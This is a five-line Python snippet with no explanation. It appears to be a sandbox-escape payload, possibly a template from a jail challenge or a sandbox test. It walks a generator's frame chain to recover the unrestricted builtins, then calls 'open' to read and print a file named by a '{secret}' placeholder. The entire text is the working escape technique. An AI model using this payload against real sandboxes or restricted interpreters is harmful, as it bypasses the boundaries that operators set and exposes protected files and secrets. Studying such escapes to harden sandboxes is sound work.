def g():
    yield g.gi_frame.f_back.f_back.f_builtins
g = g()
b = next(g)
print(b["open"]("{secret}").read())
